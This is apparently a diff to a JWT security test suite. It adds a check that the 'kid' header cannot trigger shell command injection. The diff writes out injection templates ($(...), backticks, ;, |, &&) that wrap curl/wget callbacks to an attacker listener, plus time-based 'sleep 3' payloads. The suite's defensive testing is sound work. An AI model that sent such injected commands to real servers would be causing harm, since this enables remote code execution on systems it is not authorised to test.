@@ -3,7 +3,7 @@
 import { afterAll, beforeAll, inject } from 'vitest';
 import { AttackerListener } from '../harness/attacker/listener.js';
 import { family } from '../harness/checks/suite.js';
-import { CAUSES, expectAllRejected, expectRejectedWithoutFetch } from '../harness/checks/oracle.js';
+import { CAUSES, FETCH_WINDOW_MS, expectAllRejected, expectRejectedWithoutFetch } from '../harness/checks/oracle.js';
 import type { CheckResult } from '../harness/checks/oracle.js';
 import type { Exchange } from '../harness/checks/model.js';
 import { selfSignedCertificate } from '../harness/forge/certificates.js';
@@ -142,6 +142,52 @@ check(
 );
 
 const SQL_ERRORS = /SQL|syntax error|sqlite|postgres|mysql|ORA-\d+|unterminated quoted string/i;
+/** How much slower than the same batch's harmless kid an injected sleep makes an answer (the payloads sleep 3 s). */
+const INJECTED_DELAY_MS = 2_500;
+
+check(
+  {
+    id: 'KEY-KID-CMDI',
+    title: 'Shell commands in kid are not run',
+    severity: 'critical',
+    requirement: 'RFC 8725 §3.10: kid is attacker-controlled; a key lookup that builds a shell command from it runs the attacker\'s commands on the server.',
+    references: ['RFC 8725 §3.10', 'jwt_tool playbook (kid injection)', 'PortSwigger JWT attacks (kid)'],
+    taxonomy: { cwe: ['CWE-78', 'CWE-347'], capec: ['CAPEC-88'], owaspApi: 'API2:2023' },
+    expected: `401 at normal latency (a payload that sleeps 3 s answered ${INJECTED_DELAY_MS / 1000} s slower than a harmless kid, twice, is FAIL), and no request to the attacker listener from a payload that calls it`,
+  },
+  async ({ token, target, sendAll }): Promise<CheckResult> => {
+    const withKid = (kid: string) => withHeader(token, (header) => ({ ...header, kid }));
+    const forms: [string, (command: string) => string][] = [
+      ['$(…)', (c) => `x$(${c})`],
+      ['backticks', (c) => `x\`${c}\``],
+      ['; …;', (c) => `x;${c};`],
+      ['| …', (c) => `x|${c}`],
+      ['&& …', (c) => `x&&${c}`],
+    ];
+    const callbacks: [string, string][] = forms.map(([form, inject], i) => [`kid with ${form} calling the attacker listener`, withKid(inject(`curl -s ${attacker.url}/cmdi/${i} || wget -q -O- ${attacker.url}/cmdi/${i}`))]);
+    const sleeps = (round: number): [string, string][] => [
+      ...forms.map(([form, inject]) => [`kid with ${form} sleep 3 (time-based, round ${round})`, withKid(inject('sleep 3'))] as [string, string]),
+      [`harmless kid (the batch's baseline, round ${round})`, withKid(`x-harmless-${round}`)],
+    ];
+    const first = await sendAll([...callbacks, ...sleeps(1)]);
+    const called = await attacker.hitsWithin('/cmdi/', FETCH_WINDOW_MS);
+    const measured = { slowestMs: Math.max(...first.map((e) => e.durationMs)), listenerHits: called.length };
+    if (called.length) return { verdict: 'FAIL', observed: `commands in kid ran on the server: the attacker listener was called ${called.length} time${called.length === 1 ? '' : 's'} (${called.map((h) => h.path).join(', ')})`, measured };
+    const accepted = expectAllRejected(first);
+    if (accepted.verdict === 'FAIL') return { ...accepted, measured };
+    // A slow machine delays the whole batch alike; a sleep that ran delays its own answer, every time.
+    const delayed = (batch: Exchange[]) => {
+      const baseline = batch.find((e) => e.label.startsWith('harmless kid'))!.durationMs;
+      return batch.filter((e) => e.label.includes('sleep 3') && (e.durationMs - baseline >= INJECTED_DELAY_MS || (e.outcome === 'transport-error' && /timeout|aborted/i.test(e.error ?? ''))));
+    };
+    if (delayed(first).length) {
+      const again = delayed(await sendAll(sleeps(2)));
+      if (again.length) return { verdict: 'FAIL', observed: `commands in kid ran on the server: ${again.map((e) => `"${e.label}" took ${e.durationMs} ms`).join(', ')}, ${INJECTED_DELAY_MS / 1000} s and more beyond the harmless kid of the same batch, in two rounds (timeout ${target.settings.timeoutMs} ms)`, measured };
+    }
+    return { ...accepted, observed: `${accepted.observed}; no sleep delayed an answer, and no payload called the attacker listener (slowest ${measured.slowestMs} ms)`, measured };
+  },
+);
+
 check(
   {
     id: 'KEY-KID-SQLI',
